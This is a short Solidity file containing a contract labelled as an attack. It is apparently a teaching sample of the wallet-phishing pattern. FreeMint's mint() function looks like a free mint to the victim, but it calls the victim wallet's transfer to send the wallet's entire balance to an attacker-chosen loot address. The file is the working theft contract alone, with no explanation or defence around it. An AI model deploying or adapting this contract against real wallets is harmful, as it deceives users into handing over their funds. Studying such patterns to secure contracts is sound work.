// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IWallet {
    function transfer(address payable to, uint256 amount) external;
}

// #region attack
contract FreeMint {
    IWallet private immutable WALLET;
    address payable private immutable LOOT;

    constructor(IWallet wallet, address payable loot) {
        (WALLET, LOOT) = (wallet, loot);
    }

    /// What the victim believes to call.
    function mint() external {
        WALLET.transfer(LOOT, address(WALLET).balance);
    }
}
// #endregion attack
